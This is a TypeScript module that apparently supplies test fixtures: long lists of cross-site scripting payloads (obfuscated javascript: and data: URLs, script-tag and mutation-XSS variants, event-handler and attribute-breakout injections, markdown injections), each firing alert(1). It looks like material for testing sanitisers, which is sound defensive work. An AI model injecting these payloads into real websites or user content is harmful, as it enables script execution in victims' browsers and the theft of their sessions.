/** Runs where it is let: what every payload tries. */
const RUN = "alert(1)";

const HANDLERS = [
  ..."onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerenter onanimationstart onanimationend ontransitionend".split(
    " ",
  ),
  ..."ontoggle onbeforetoggle onscroll onscrollend onwheel oncopy onpaste oninput onchange onbeforeinput oninvalid onsubmit onreset".split(
    " ",
  ),
  ..."onkeydown onkeyup onpageshow onhashchange onpopstate onmessage onstorage onunload onbegin onend onrepeat onloadstart oncanplay".split(
    " ",
  ),
];
const TAGS =
  "a b body button details div dialog form frameset iframe img input isindex keygen link marquee math meta object p select style svg table textarea title video audio source track embed area base applet template slot".split(
    " ",
  );
/** Addresses that run something, or lead to what does. */
export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `  javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${RUN}>*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${RUN}</script></x>`,
  `blob:null/${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
];

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script/x>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script>${RUN}//`,
  `</script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** Ends of an attribute or element in which a text could stand, followed by markup. */
const BREAKS = [
  `"`,
  `'`,
  "`",
  `">`,
  `'>`,
  "`>",
  `" `,
  `' `,
  `"/>`,
  `'/>`,
  `-->`,
  `]]>`,
  `</title>`,
  `</style>`,
  `</textarea>`,
  `</noscript>`,
  `</template>`,
  `</svg>`,
  `</math>`,
  `</select>`,
  `</table>`,
  `</main></body></html>`,
  `</p>`,
  `</time>`,
  `</h1>`,
  `"></meta>`,
  `" http-equiv=refresh content="0;url=javascript:${RUN}" x="`,
  `" style="background:url(javascript:${RUN})" x="`,
  `" onfocus=${RUN} autofocus tabindex=0 x="`,
  `' onfocus=${RUN} autofocus tabindex=0 x='`,
  `\\"`,
  `\\'`,
  `&quot;>`,
  `&#34;>`,
  `\u2028">`,
  `\ufeff">`,
  `\u202e">`,
];

const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<svg><desc><noembed><style></desc><script>${RUN}</script>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /><a><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href from=javascript:${RUN} to=1 /><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'><rect/></a></svg>#x">`,
  `<svg><image href=x onerror=${RUN}>`,
  `<svg><style>@import'javascript:${RUN}';</style>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0061lert(1)</script x>`,
  `<a><a><table><tr><td><a href=javascript:${RUN}>x</table>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<plaintext><svg onload=${RUN}>`,
  `<noframes><p title="</noframes><svg onload=${RUN}>">`,
  `<style><img src="</style><img src=x onerror=${RUN}//">`,
  `<title><img src="</title><img src=x onerror=${RUN}>">`,
  `<img src="x\`><script>${RUN}</script>"\`>`,
  `<img \x0bsrc=x \x0conerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\x0a=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${RUN})}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action=javascript:${RUN}><input type=submit autofocus></form>`,
  `<button form=x formaction=javascript:${RUN}>x</button>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>x</b>`,
  `<p style="background-image:url(javascript:${RUN})">x</p>`,
  `<xss contenteditable autofocus onfocus=${RUN}>x</xss>`,
  `<div popover id=x onbeforetoggle=${RUN}>x</div><button popovertarget=x autofocus>x</button>`,
];

const markdown = ADDRESSES.flatMap((address) => [`[x](${address})`, `![x](${address})`]).concat(
  [
    `<${ADDRESSES[0]}>`,
    `[x]: ${ADDRESSES[0]}\n\n[x]`,
    `[x](<${ADDRESSES[0]}>)`,
    `![x](x "\\" onerror=${RUN} x=\\"")`,
    `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  ],
  [
    `| <img src=x onerror=${RUN}> |\n|---|\n| x |`,
    `- <img src=x onerror=${RUN}>`,
    `# <svg onload=${RUN}>`,
    `> <script>${RUN}</script>`,
    `x  \n<img src=x onerror=${RUN}>`,
  ],
);

/** Texts that run when they are taken for markup: our own list, of the forms that are known to have worked somewhere. */
export const MARKUP_PAYLOADS: readonly string[] = [
  ...new Set([
    ...scripts,
    ...mutations,
    ...HANDLERS.map((handler) => `<svg ${handler}=${RUN} tabindex=0 autofocus>`),
    ...HANDLERS.map((handler) => `<img src=x ${handler}="${RUN}">`),
    ...TAGS.map((tag) => `<${tag} onload=${RUN} onerror=${RUN} onfocus=${RUN} autofocus src=x data=x href=javascript:${RUN}>x</${tag}>`),
    ...ADDRESSES.map((address) => `<a href="${address}" autofocus>x</a>`),
    ...ADDRESSES.map((address) => `<iframe src="${address}"></iframe>`),
    ...BREAKS.map((end) => `${end}<img src=x onerror=${RUN}>`),
    ...BREAKS.map((end) => `${end} autofocus onfocus=${RUN} tabindex=0 `),
    ...markdown,
  ]),
];

/** So much of a text every page shows. */
const SHOWN = 200;

/** Payloads side by side, as many as are shown whole. */
export function together(payloads: readonly string[], room = SHOWN): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < room) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
